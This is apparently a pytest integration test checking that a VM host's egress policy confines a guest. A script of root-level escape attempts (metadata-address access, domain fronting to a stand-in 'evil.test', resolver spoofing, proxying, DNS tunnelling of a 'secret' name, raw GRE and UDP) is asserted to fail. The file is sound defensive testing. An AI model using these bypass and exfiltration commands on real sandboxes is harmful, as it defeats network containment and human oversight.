"""A whole machine, root in it, and the world around it: what programs see, and what nobody gets past."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.egress.town import METADATA, ORIGIN, OTHER, Town, running_town
from tests.host.client import Hostd, eventually, new_id, running_hostd
from tests.host.test_vm import boot

pytestmark = pytest.mark.vm
RULES = {"mode": "rules", "rules": [{"domain": "a.test"}, {"domain": "a.test", "ports": [9000]}]}

#: Root's tries, all at once: each prints its name when it came through.
TRIES = f"""
through() {{ timeout 15 "${{@:2}}" >/dev/null 2>&1 && echo "THROUGH $1"; }}
ip -6 address add fd00::2/64 dev eth0 2>/dev/null; sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0
ip -6 address add fd00::2/64 dev eth0 2>/dev/null; ip -6 route add default via fe80::1 dev eth0 2>/dev/null
through literal curl -sf http://{OTHER}/ &
through metadata curl -sf http://{METADATA}/ &
through neighbour curl -sf http://10.77.0.6/ &
through host curl -sf http://10.77.0.1:8000/ &
through fronting curl -sfk --connect-to evil.test:443:{ORIGIN}:443 https://evil.test/ &
through hidden curl -sfk --resolve a.test:443:{OTHER} https://a.test/ &
through proxy curl -sf -x http://{OTHER}:8080 http://a.test/ &
through icmp ping -c 1 -W 5 {ORIGIN} &
through ipv6 curl -sf http://[2001:db8::1]/ &
through udp python3 -c 'import socket
s = socket.socket(2, 2); s.settimeout(5); s.connect(("{ORIGIN}", 443)); s.send(b"x"); s.recv(1)' &
through resolver python3 -c 'import socket
s = socket.socket(2, 2); s.settimeout(5)
s.sendto(bytes.fromhex("12340100000100000000000006736563726574046576696c04746573740000100001"), ("8.8.8.8", 53))
exit(s.recv(512)[3] & 15)' &
through raw python3 -c 'import socket
s = socket.socket(2, 3, 47); s.settimeout(5); s.sendto(b"tunnel", ("{ORIGIN}", 0)); s.recv(99)' &
wait
"""


async def put(hostd: Hostd, mid: str, revision: int, policy: dict[str, Any], **more: Any) -> None:
    answer = await hostd.call("PUT", f"/v1/machines/{mid}/network",
                              json={"document": {"revision": revision, "policy": policy, **more}})
    assert (answer.status, answer.json) == (200, {"revision": revision})


async def rows(hostd: Hostd, mid: str, **like: Any) -> list[dict[str, Any]]:
    page = (await hostd.call("GET", f"/v1/machines/{mid}/network/log?limit=1000")).json
    return [row for row in page["results"] if all(row[key] == value for key, value in like.items())]


async def test_a_machine_reaches_what_it_may_and_root_in_it_nothing_else(cache: Path) -> None:
    """Field cases 042, 083 and 084 from within a guest."""
    with running_town(alone=False) as town:
        town.servers.names.update({"a.test": (30, [ORIGIN]), "evil.test": (30, [OTHER])})
        options = ("--egress", str(town.socket))
        async with running_hostd("qemu", images=cache, options=options) as hostd:
            mid = new_id()
            await put(hostd, mid, 1, RULES)
            await boot(hostd, mid, 1, "create_disk")
            await boot(hostd, mid, 1)
            assert (await hostd.call("GET", "/v1/host")).json["capabilities"]["egress"] is True
            await programs_work_and_fail_fast(hostd, mid, town)
            await root_gets_nothing_past(hostd, mid, town)
            await an_open_connection_is_cut(hostd, mid)
            await a_wake_resets(hostd, mid)


async def programs_work_and_fail_fast(hostd: Hostd, mid: str, town: Town) -> None:
    await hostd.call("PUT", f"/v1/machines/{mid}/files/content?path=/tmp/ca.pem", data=town.servers.ca.read_bytes())
    fetch = ("import os, urllib.request as r, ssl; c = ssl.create_default_context(cafile='/tmp/ca.pem')\n"
             "print(r.urlopen('https://a.test/python', context=c).read().decode())")
    said = await hostd.exec(mid, f"curl -sS --cacert /tmp/ca.pem https://a.test/curl; python3 -c \"{fetch}\"; "
                                 "git -c http.sslCAInfo=/tmp/ca.pem ls-remote https://evil.test/x; "
                                 f"curl -sS http://{ORIGIN}/; curl -sSk https://{OTHER}/", timeout_s=100)
    for words in (f"{ORIGIN}\nGET /curl HTTP", f"{ORIGIN}\nGET /python HTTP", "refused by policy: host_mismatch"):
        assert words in said["stdout"], said
    assert "Could not resolve host: evil.test" in said["stderr"] and "access denied" in said["stderr"], said
    assert said["outcome"]["kind"] == "exited"
    found = await eventually(lambda: rows(hostd, mid, name="a.test", port=443, verdict="allowed"), "an allowed row")
    assert found[0]["rule"] == "rules[0]" and found[0]["bytes_in"] > 0
    assert "evil.test" not in town.servers.asked
    facts = await eventually(lambda: hostd.facts(mid, "network.refused"), "a refusal is told")
    assert {"name", "address", "port", "protocol", "reason", "count"} == set(facts[0]["data"])


async def root_gets_nothing_past(hostd: Hostd, mid: str, town: Town) -> None:
    came = len(town.servers.requests)
    said = await hostd.exec(mid, TRIES, user="root", timeout_s=120)
    assert "THROUGH" not in said["stdout"] and said["outcome"] == {"kind": "exited", "code": 0}, said
    assert town.servers.requests[came:] == [] and "secret.evil.test" not in town.servers.asked

    async def all_told() -> bool:
        refused = await rows(hostd, mid, verdict="refused")
        seen = {(row["protocol"], row["address"]) for row in refused} | {(row["reason"], "") for row in refused}
        return seen >= {("tcp", OTHER), ("tcp", METADATA), ("tcp", "10.77.0.6"), ("tcp", "10.77.0.1"), ("icmp", ORIGIN),
                        ("udp", ORIGIN), ("gre", ORIGIN), ("sni_mismatch", ""), ("name_not_resolved", ""), ("dns", "")}

    await eventually(all_told, "every try has its row")


async def an_open_connection_is_cut(hostd: Hostd, mid: str) -> None:
    pouring = await hostd.exec(mid, "exec 3<>/dev/tcp/a.test/9000; echo 900000000000 >&3; cat <&3 >/dev/null; "
                                    "echo over", background=True)
    await eventually(lambda: _flows(hostd, mid), "bytes flow")
    await put(hostd, mid, 2, {"mode": "deny-all"})
    ended = await hostd.end_of(mid, pouring["id"])
    assert "over" in ended["stdout"] and "reset" in ended["stderr"], ended
    assert await eventually(lambda: rows(hostd, mid, reason="policy_changed"), "the cut is told")


async def _flows(hostd: Hostd, mid: str) -> bool:
    said = await hostd.exec(mid, "cat /sys/class/net/*/statistics/rx_bytes | sort -n | tail -n 1")
    return int(said["stdout"]) > 2_000_000


async def a_wake_resets(hostd: Hostd, mid: str) -> None:
    """A program that only waits for bytes hears of the end, too; and the way out is there again."""
    await put(hostd, mid, 3, {"mode": "rules", "rules": [{"cidr": f"{ORIGIN}/32"}]})
    waiting = await hostd.exec(mid, f"exec 3<>/dev/tcp/{ORIGIN}/7; echo here >&3; head -n 1 <&3; cat <&3; echo over",
                               background=True)

    async def is_there() -> bool:
        return "here" in (await hostd.call("GET", f"/v1/machines/{mid}/execs/{waiting['id']}")).json["stdout"]

    await eventually(is_there, "it is connected")
    await boot(hostd, mid, 1, "park")
    await boot(hostd, mid, 2)
    ended = await hostd.end_of(mid, waiting["id"])
    assert "over" in ended["stdout"] and "connection abort" in ended["stderr"], ended
    again = await hostd.exec(mid, f"curl -sS http://{ORIGIN}/again")
    assert f"{ORIGIN}\nGET /again" in again["stdout"], again
